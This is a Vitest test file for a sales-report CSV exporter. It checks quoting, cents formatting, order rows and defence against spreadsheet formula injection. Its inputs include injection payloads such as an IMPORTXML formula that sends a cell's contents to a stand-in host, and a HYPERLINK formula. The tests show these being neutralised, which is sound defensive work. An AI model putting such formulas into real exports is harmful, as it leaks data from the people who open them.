import { describe, expect, it } from 'vitest';
import { CSV_HEADER, csvField, formatCents, orderCsvRows } from '../../../../lambdas/jobs/sales-report/csv';

describe('csvField', () => {
  it('leaves plain text unquoted', () => {
    expect(csvField('Espresso')).toBe('Espresso');
    expect(csvField('')).toBe('');
  });

  it('quotes a field with a comma, a quote, CR or LF and doubles its quotes', () => {
    expect(csvField('Tea, green')).toBe('"Tea, green"');
    expect(csvField('The "Big" one')).toBe('"The ""Big"" one"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField('"')).toBe('""""');
  });

  it('neutralises a text cell that a spreadsheet would run as a formula, then quotes it as usual', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+33 1 23 45 67 89')).toBe("'+33 1 23 45 67 89");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=cmd')).toBe("'\t=cmd");
    expect(csvField('\r=cmd')).toBe('"\'\r=cmd"');
    expect(csvField('=HYPERLINK("http://x.example/?a=1,2","Click")')).toBe('"\'=HYPERLINK(""http://x.example/?a=1,2"",""Click"")"');
  });

  it('leaves a cell alone when the formula character is not first', () => {
    expect(csvField('Tea = green')).toBe('Tea = green');
    expect(csvField("a-b@c+d")).toBe('a-b@c+d');
    expect(csvField("'quoted")).toBe("'quoted");
  });
});

describe('formatCents', () => {
  it('writes exact decimals with two places', () => {
    expect(formatCents(0)).toBe('0.00');
    expect(formatCents(5)).toBe('0.05');
    expect(formatCents(10)).toBe('0.10');
    expect(formatCents(199)).toBe('1.99');
    expect(formatCents(123456)).toBe('1234.56');
    expect(formatCents(-5)).toBe('-0.05');
    expect(formatCents(9007199254740991)).toBe('90071992547409.91');
  });

  it('rejects a fraction of a cent', () => {
    expect(() => formatCents(1.5)).toThrow('formatCents: expected a whole number of cents, got 1.5');
  });
});

describe('orderCsvRows', () => {
  it('writes one CRLF row per line with the order total repeated, escaping text fields', () => {
    const rows = orderCsvRows({
      orderId: 'o-1',
      orderDay: '2026-11-25',
      createdAt: '2026-11-25T10:00:00.000Z',
      customerId: 'c,1',
      lines: [
        { productId: 'p-1', name: 'Mug "XL", blue', quantity: 2, unitPriceCents: 1250 },
        { productId: 'p-2', name: 'Card\nwith two lines', quantity: 1, unitPriceCents: 99 },
      ],
    });
    // total: 2 x 12.50 + 0.99 = 25.99
    expect(rows).toBe(
      'o-1,2026-11-25T10:00:00.000Z,"c,1",p-1,"Mug ""XL"", blue",2,12.50,25.00,25.99\r\n' +
        'o-1,2026-11-25T10:00:00.000Z,"c,1",p-2,"Card\nwith two lines",1,0.99,0.99,25.99\r\n',
    );
  });

  it('neutralises formula-like text cells but keeps negative money a number', () => {
    const rows = orderCsvRows({
      orderId: 'o-2',
      orderDay: '2026-11-25',
      createdAt: '2026-11-25T11:00:00.000Z',
      customerId: '@c2',
      lines: [
        { productId: '-p-9', name: '=IMPORTXML(CONCAT("http://x.example/?",A2),"//a")', quantity: 1, unitPriceCents: -5 },
        { productId: 'p-1', name: '+ discount', quantity: 1, unitPriceCents: 105 },
      ],
    });
    // total: -0.05 + 1.05 = 1.00; the money columns keep their minus sign unprefixed.
    expect(rows).toBe(
      'o-2,2026-11-25T11:00:00.000Z,\'@c2,\'-p-9,"\'=IMPORTXML(CONCAT(""http://x.example/?"",A2),""//a"")",1,-0.05,-0.05,1.00\r\n' +
        "o-2,2026-11-25T11:00:00.000Z,'@c2,p-1,'+ discount,1,1.05,1.05,1.00\r\n",
    );
  });

  it('has the documented header', () => {
    expect(CSV_HEADER).toBe('order_id,created_at,customer_id,product_id,product_name,quantity,unit_price,line_total,order_total\r\n');
  });
});
